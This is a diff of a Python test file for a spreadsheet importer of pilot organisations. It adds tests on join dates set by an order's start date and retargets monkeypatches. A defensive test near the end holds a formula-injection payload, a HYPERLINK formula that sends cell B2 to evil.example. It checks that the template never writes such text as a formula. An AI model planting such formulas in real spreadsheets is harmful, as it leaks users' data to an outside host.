@@ -18,7 +18,8 @@ from pilots.importer import (
     organisations_parse,
     template_workbook,
 )
-from pilots.models import Organisation, PilotMembershipChange
+from pilots.models import Order, Organisation, PilotMembershipChange
+from pilots.reference import load_order
 from pilots.tests.factories import (
     CoordinatorFactory,
     InstituteFactory,
@@ -157,8 +158,25 @@ def test_new_organisation_joins_on_the_day_of_import_once_the_pilot_has_begun(as
 
 
 def test_new_organisation_imported_before_the_start_joins_at_the_start(astana):
+    load_order()  # the order sets the pilot's start: 1 January 2026
     run(xlsx([row(valid_bin(2))]), today=datetime.date(2025, 12, 1))
     assert Organisation.objects.get(bin=valid_bin(2)).in_pilot_from == datetime.date(2026, 1, 1)
+
+
+def test_the_start_a_new_organisation_joins_at_is_the_orders(astana):
+    order = load_order()
+    Order.objects.filter(pk=order.pk).update(pilot_starts_on=datetime.date(2026, 2, 1))
+    run(xlsx([row(valid_bin(2))]), today=datetime.date(2026, 1, 10))
+    assert Organisation.objects.get(bin=valid_bin(2)).in_pilot_from == datetime.date(2026, 2, 1)
+    # Positive control: on a day after the order's start, the organisation joins on that day.
+    run(xlsx([row(valid_bin(3))]), today=datetime.date(2026, 2, 5))
+    assert Organisation.objects.get(bin=valid_bin(3)).in_pilot_from == datetime.date(2026, 2, 5)
+
+
+def test_without_an_order_a_new_organisation_joins_on_the_day_of_import(astana):
+    assert not Order.objects.exists()
+    run(xlsx([row(valid_bin(2))]), today=datetime.date(2025, 12, 1))
+    assert Organisation.objects.get(bin=valid_bin(2)).in_pilot_from == datetime.date(2025, 12, 1)
 
 
 def test_empty_cell_leaves_the_stored_value(existing):
@@ -257,7 +275,7 @@ def test_file_over_10_mb_is_rejected_before_it_is_read(existing, monkeypatch):
     def must_not_read(*args, **kwargs):
         raise AssertionError("the file was read")
 
-    monkeypatch.setattr(importer.openpyxl, "load_workbook", must_not_read)
+    monkeypatch.setattr(importer.reading.openpyxl, "load_workbook", must_not_read)
     before = snapshot()
     result = run(SimpleUploadedFile("big.xlsx", b"\0" * (10 * 1024 * 1024 + 1)))
     assert codes(result) == [(None, "", "file_too_large")]
@@ -552,7 +570,7 @@ def test_template_download_is_a_workbook_the_importer_accepts(client, institute,
 def test_the_template_writes_its_texts_as_text_never_as_formulas(monkeypatch):
     link = '=HYPERLINK("http://evil.example/?leak="&B2,"click me")'
     columns = tuple(dataclasses.replace(c, example=link) if c.code == "name_kk" else c for c in importer.COLUMNS)
-    monkeypatch.setattr(importer, "COLUMNS", columns)
+    monkeypatch.setattr(importer.template, "COLUMNS", columns)
     workbook = template_workbook()
     assert formulas_in(workbook) == []
     texts = text_cells(workbook)
